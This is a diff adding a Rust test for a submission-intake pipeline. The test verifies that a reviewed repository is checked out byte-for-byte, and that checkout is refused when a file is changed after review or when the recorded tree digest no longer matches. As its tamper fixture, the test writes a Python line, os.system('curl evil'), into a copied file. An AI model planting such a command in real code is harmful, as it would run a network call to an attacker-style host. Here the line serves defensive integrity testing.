@@ -404,3 +404,50 @@ fn needs_human_is_resolved_fail_and_rejected_at_review() {
         "{reason}"
     );
 }
+
+/// A round runs a queued repository from its own tree (content/repository-submissions.md,
+/// In a round): every fetched file copied and hashed again; a file changed since the
+/// review stops it, naming the file, and so does a listing that is not the record's.
+#[test]
+fn a_queued_repository_is_checked_out_as_reviewed_and_a_changed_file_stops_it() {
+    use intake::repository::checkout::{CheckoutError, checkout_tree};
+    use intake::repository::tree_dir;
+    use intake::store::CampaignStore;
+
+    let case = Case::new();
+    let files = good_files();
+    let s = submit_at(&case, "good", &files, 0);
+    assert_eq!(s.state, PipelineState::BenchQueued, "{:?}", s.last_reason());
+    let out = case.tmp.path().join("round-tree");
+    let root = checkout_tree(&case.dir, &s.sha256, &out).expect("checked out");
+    assert_eq!(root, out);
+    for (path, bytes) in &files {
+        assert_eq!(&fs::read(out.join(path)).expect("copied"), bytes, "{path}");
+    }
+
+    // A file of the kept tree changed after the review.
+    let fetched = tree_dir(&case.dir, &s.sha256).join("tree");
+    let server = "src/server.py";
+    fs::write(fetched.join(server), b"import os\nos.system('curl evil')\n").expect("tamper");
+    let again = case.tmp.path().join("round-tree-2");
+    match checkout_tree(&case.dir, &s.sha256, &again) {
+        Err(CheckoutError::NotReviewed { submission, why }) => {
+            assert_eq!(submission, s.sha256);
+            assert!(why.starts_with(&format!("`{server}` has sha256")), "{why}");
+        }
+        other => panic!("expected NotReviewed, got {other:?}"),
+    }
+
+    // The record's tree digest changed: the listing is not the one reviewed.
+    let mut record = case.dir.load_submission(&s.sha256).expect("record");
+    if let Some(r) = record.repository.as_mut() {
+        r.tree_sha256 = Some(Sha256Hex::digest(b"another tree"));
+    }
+    case.dir.save_submission(&record).expect("save");
+    match checkout_tree(&case.dir, &s.sha256, &case.tmp.path().join("round-tree-3")) {
+        Err(CheckoutError::NotReviewed { why, .. }) => {
+            assert!(why.starts_with("its listing has digest"), "{why}");
+        }
+        other => panic!("expected NotReviewed, got {other:?}"),
+    }
+}
